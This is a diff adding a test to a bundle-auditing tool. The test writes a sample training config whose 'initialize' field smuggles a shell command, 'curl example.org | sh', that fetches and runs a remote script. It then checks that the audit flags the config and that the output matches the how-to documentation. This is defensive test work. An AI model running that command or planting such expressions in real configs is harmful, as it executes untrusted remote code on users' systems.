@@ -48,3 +48,18 @@ def test_what_would_move_the_cursor_is_shown_as_numbers(tmp_path, capsys):
 def test_what_is_absent_is_an_error_of_the_user(tmp_path, capsys):
     assert main(["audit", str(tmp_path / "absent")]) == 2
     assert "expected a bundle" in capsys.readouterr().err
+
+
+def test_the_example_of_the_documentation(tmp_path, capsys):
+    (tmp_path / "configs").mkdir()
+    (tmp_path / "scripts").mkdir()
+    (tmp_path / "scripts" / "net.py").write_text("class Net: pass")
+    lines = [
+        '"network_def": {"_target_": "scripts.net.Net"},',
+        """"device": "$torch.device('cuda')",""",
+        """"initialize": ["$os.system('curl example.org | sh')"]""",
+    ]
+    (tmp_path / "configs" / "train.json").write_text("\n".join(["{", *lines, "}"]))
+    assert main(["audit", str(tmp_path)]) == 1
+    page = (ROOT / "docs" / "how-to" / "audit-a-bundle.md").read_text(encoding="utf-8")
+    assert f"```text\n{capsys.readouterr().out}```" in page
